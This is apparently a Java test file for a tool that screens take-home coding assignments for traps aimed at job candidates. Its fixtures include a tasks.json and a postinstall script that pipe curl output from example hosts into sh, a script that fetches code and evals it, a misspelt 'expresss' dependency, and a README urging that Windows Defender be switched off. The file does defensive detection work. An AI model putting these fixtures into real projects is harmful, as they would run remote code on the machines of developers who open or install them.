package dev.bonafide.bot;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bonafide.casefile.Exhibit;
import dev.bonafide.casefile.ExhibitKind;
import dev.bonafide.casefile.SubjectKind;
import dev.bonafide.casefile.Submission;
import dev.bonafide.check.Outcome;
import dev.bonafide.documents.intake.Content;
import dev.bonafide.documents.intake.Formats;
import dev.bonafide.documents.intake.Handed;
import dev.bonafide.documents.intake.Intake;
import dev.bonafide.examination.Examination;
import dev.bonafide.report.Particulars;
import dev.bonafide.report.TextReport;
import dev.bonafide.testkit.interview.Zipped;
import dev.bonafide.verdict.Verdict;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The archive of a take-home, handed in with nothing beside it. */
class TakeHomeVerdictTest {
  private static final Map<String, String> ORDINARY =
      Map.of(
          "README.md", "# Orders\nAdd paging to the list of orders. Two hours are enough.\n",
          "src/orders.js", "export const orders = (db) => db.all('select * from orders');\n",
          "package.json", "{\"name\": \"orders\", \"scripts\": {\"test\": \"node --test\"}}\n");

  private static final String FETCHES = "test-fetches-and-runs-itself";

  /** As an editor writes it. */
  private static final String TASK =
      """
      {
        "version": "2.0.0",
        "tasks": [
          {
            "label": "env",
            "command": "curl -s https://env.orders.example/a | sh",
            "runOptions": {"runOn": "folderOpen"}
          }
        ]
      }
      """;

  @ParameterizedTest
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '\0',
      textBlock =
          """
          .vscode/tasks.json § {"tasks": [{"command": "npm ci", "runOptions": {"runOn": "folderOpen"}}]}
          .devcontainer/devcontainer.json § {"postCreateCommand": "npm ci && npm test"}
          README.md § Fetch the sample data with curl -sO https://data.orders.example/sample.csv first.
          """)
  void what_starts_by_itself_or_fetches_data_is_no_reason_to_stop(String path, String text) {
    assertThat(verdicts(with(path, text))).allMatch(one -> one.level() == 0);
  }

  @Test
  void one_line_that_fetches_and_runs_by_itself_is_a_fact_that_stops() {
    byte[] archive =
        with(
            "package.json",
            "{\"scripts\": {\"postinstall\": \"curl -s https://env.orders.example/a | sh\"}}");

    assertThat(verdicts(archive)).allMatch(one -> one.level() == 2);
    assertThat(found(archive)).contains(FETCHES);
  }

  @Test
  void one_that_runs_a_fetched_program_when_its_folder_is_opened_is_do_not_go_on() {
    byte[] archive = with(".vscode/tasks.json", TASK);

    assertThat(verdicts(archive)).allMatch(one -> one.level() == 2);
    assertThat(found(archive)).contains(FETCHES);
  }

  @Test
  void one_that_also_installs_fetched_code_and_a_misspelt_package_is_do_not_go_on() {
    byte[] archive =
        with(
            ".vscode/tasks.json",
            TASK,
            "package.json",
            """
            {"name": "orders",
             "scripts": {"postinstall": "node tools/env.js"},
             "dependencies": {"expresss": "4.0.0"}}
            """,
            "tools/env.js",
            """
            const url = "https://conf.orders.example/v2";
            fetch(url).then((r) => r.text()).then((code) => eval(code));
            """);

    assertThat(verdicts(archive)).allMatch(one -> one.level() == 2);
    assertThat(found(archive)).contains(FETCHES, "test-runs-fetched-code");
  }

  @Test
  void a_lock_file_too_large_to_be_shown_keeps_the_code_beside_it_from_nothing() {
    String lock = "left-pad@^1.3.0:\n  version \"1.3.0\"\n\n".repeat(20_000);

    assertThat(verdicts(with("yarn.lock", lock))).hasOnlyElementsOfType(Verdict.NoRedFlags.class);
    assertThat(verdicts(with("yarn.lock", lock, ".vscode/tasks.json", TASK)))
        .allMatch(one -> one.level() == 2);
  }

  @Test
  void a_line_is_cited_by_its_file_and_its_number_there() {
    Particulars particulars = new Particulars("1", Instant.EPOCH, 1, "0", "0", "0");
    String report =
        new TextReport(120, false)
            .of(examined(null, with(".vscode/tasks.json", TASK)), particulars);

    assertThat(report).contains("/.vscode/tasks.json, line 6").doesNotContain("These do not agree");
  }

  @Test
  void a_readme_that_asks_to_switch_protection_off_is_flagged_with_and_without_a_kind() {
    byte[] archive =
        with("README.md", "# Bot\nTurn off Windows Defender first, it deletes our build tool.\n");

    assertThat(examined(null, archive).assessment().verdict().level()).isPositive();
    assertThat(examined(SubjectKind.RECRUITER, archive).assessment().verdict().level())
        .isPositive();
  }

  /** The one of the three who hands out a take-home test. */
  private static List<Verdict> verdicts(byte[] archive) {
    return Stream.of(SubjectKind.RECRUITER, SubjectKind.JOB_POST, SubjectKind.SOLICITATION)
        .map(kind -> examined(kind, archive).assessment().verdict())
        .toList();
  }

  private static List<String> found(byte[] archive) {
    return examined(SubjectKind.RECRUITER, archive).outcomes().stream()
        .filter(Outcome.Finding.class::isInstance)
        .map(Outcome::check)
        .toList();
  }

  private static Examination examined(@Nullable SubjectKind kind, byte[] archive) {
    List<Exhibit> opened =
        new Intake(Formats.all(TestLimits.UNHURRIED), TestLimits.UNHURRIED)
            .open(new Handed("orders.zip", ExhibitKind.REPOSITORY, new Content.InMemory(archive)));
    return Shipped.ENGINE.screen(new Submission(kind, null, List.of(), opened, List.of()));
  }

  private static byte[] with(String... pathsAndTexts) {
    Map<String, byte[]> files = new TreeMap<>();
    ORDINARY.forEach((name, words) -> files.put(name, words.getBytes(StandardCharsets.UTF_8)));
    for (int at = 0; at < pathsAndTexts.length; at += 2) {
      files.put(pathsAndTexts[at], pathsAndTexts[at + 1].getBytes(StandardCharsets.UTF_8));
    }
    return Zipped.of(files);
  }
}
